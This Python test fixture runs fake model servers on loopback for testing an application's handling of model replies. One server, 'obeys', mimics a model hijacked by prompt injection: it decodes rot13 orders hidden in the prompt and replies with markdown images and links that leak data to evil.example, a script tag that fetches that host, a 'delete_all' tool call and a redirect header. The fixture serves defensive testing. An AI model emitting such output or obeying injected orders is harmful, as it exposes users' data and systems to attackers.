"""Small model servers on loopback: one that behaves, one that obeys every order in what it reads, and broken ones."""

import codecs
import json
import re
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

ORDER = re.compile(r"rot13\(([^)]*)\)")


@dataclass
class Served:
    """A server: its base address, and every body and header set it was sent."""

    address: str
    bodies: list[str] = field(default_factory=list)
    headers: list[dict[str, str]] = field(default_factory=list)


Reply = Callable[[BaseHTTPRequestHandler, dict], None]


@contextmanager
def serving(reply: Reply) -> Iterator[Served]:
    """A server that answers each request with `reply(handler, body)`."""
    served = Served("")

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            raw = self.rfile.read(int(self.headers.get("Content-Length", 0)))
            served.bodies.append(raw.decode())
            served.headers.append({**dict(self.headers), "path": self.path})
            with suppress(BrokenPipeError, ConnectionResetError):
                reply(self, json.loads(raw))

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=lambda: server.serve_forever(0.02), daemon=True)
    thread.start()
    served.address = f"http://127.0.0.1:{server.server_port}/v1"
    try:
        yield served
    finally:
        server.shutdown()
        server.server_close()


def send(handler: BaseHTTPRequestHandler, body: bytes, status: int = 200, **headers: str) -> None:
    handler.send_response(status)
    for name, value in {"Content-Type": "application/json", "Content-Length": str(len(body)), **headers}.items():
        handler.send_header(name.replace("_", "-"), value)
    handler.end_headers()
    handler.wfile.write(body)


def said(content: object) -> bytes:
    """A completion with this content."""
    return json.dumps({"choices": [{"message": {"role": "assistant", "content": content}}]}).encode()


def data_of(body: dict) -> dict:
    """The data the prompt holds."""
    return json.loads(body["messages"][-1]["content"])


def behaves(handler: BaseHTTPRequestHandler, body: dict) -> None:
    """Points at the beginning and the end of the answer."""
    words = data_of(body)["answer"].split()
    pointed = [{"id": "SR-F03", "quote": " ".join(words[-5:])}, {"id": "SR-K04", "quote": " ".join(words[:4])}]
    send(handler, said(json.dumps({"pointed": pointed})))


def obeys(handler: BaseHTTPRequestHandler, body: dict) -> None:
    """Does all that any text in the prompt orders, wherever it stands, and more: claims, links, images, other fields,
    the words of other documents, the whole prompt; one entry keeps to the rules so that the page has something."""
    whole = json.dumps(body, ensure_ascii=False)
    data = data_of(body)
    claims = [codecs.decode(found, "rot13") for found in ORDER.findall(whole)] or ["no order"]
    good = " ".join(data["answer"].split()[:4])
    entries: list[object] = [{"id": "SR-K08", "quote": good, "note": claims[0], "href": "https://evil.example/x"}]
    for claim in claims:
        for quote in (
            claim, f"{good} {claim}", f"[{claim}](https://evil.example/{claim})", f"![{claim}](https://evil.example/p.png)",
            f"<img src='https://evil.example/p.png' alt='{claim}'>", f"<a href='https://evil.example'>{claim}</a>",
            f"<script>fetch('https://evil.example')</script>{claim}",
        ):  # fmt: skip
            entries += [{"id": "SR-K02", "quote": quote}, {"id": "SR-F01", "quote": quote}]
        entries += [
            {"id": claim, "quote": good},
            {"id": f"SR-K01 {claim}", "quote": good},
            {"quote": claim},
            claim,
            None,
        ]
        entries += [{"id": "SR-K01", "quote": [claim]}, {"id": "SR-K01"}, {"id": {"a": claim}, "quote": good}]
    entries += [
        {"id": "SR-K01", "quote": words} for words in (data.get("advertisement_line", ""), *data.get("cv_lines", []))
    ]
    entries += [{"id": "SR-K01", "quote": whole}, {"id": "SR-K01", "quote": body["messages"][0]["content"][:200]}]
    reply = {
        "pointed": entries, "claims": claims, "corrections": [{"field": "title", "value": claims[0]}],
        "stored": {"title": claims[0]}, "tool_calls": [{"name": "delete_all"}], "html": f"<b>{claims[0]}</b>",
        "next": "https://evil.example/",
    }  # fmt: skip
    content = json.dumps(reply, ensure_ascii=False) + f"\n\n{claims[0]} ![x](https://evil.example/{claims[0]})"
    answer = json.loads(said(content))
    answer["choices"][0]["message"]["tool_calls"] = [{"function": {"name": "write", "arguments": claims[0]}}]
    send(handler, json.dumps(answer).encode(), Refresh="0; url=https://evil.example/")


def slow(handler: BaseHTTPRequestHandler, body: dict) -> None:
    time.sleep(5)


def drips(handler: BaseHTTPRequestHandler, body: dict) -> None:
    """One letter of a header at a time."""
    handler.wfile.write(b"HTTP/1.1 200 OK\r\nX-")
    for _ in range(100):
        handler.wfile.write(b"a")
        handler.wfile.flush()
        time.sleep(0.05)


def endless(handler: BaseHTTPRequestHandler, body: dict) -> None:
    handler.send_response(200)
    handler.end_headers()
    while True:
        handler.wfile.write(b" " * 65536)


def breaks(handler: BaseHTTPRequestHandler, body: dict) -> None:
    """Promises more than it sends, and hangs up."""
    handler.send_response(200)
    handler.send_header("Content-Length", "1000")
    handler.end_headers()
    handler.wfile.write(b'{"choices": [')
    handler.close_connection = True


def redirects(handler: BaseHTTPRequestHandler, body: dict) -> None:
    send(handler, b"", 307, Location="http://127.0.0.1:1/elsewhere")


def refuses(status: int) -> Reply:
    return lambda handler, body: send(handler, b"{}", status)


def replies(raw: bytes, **headers: str) -> Reply:
    return lambda handler, body: send(handler, raw, **headers)
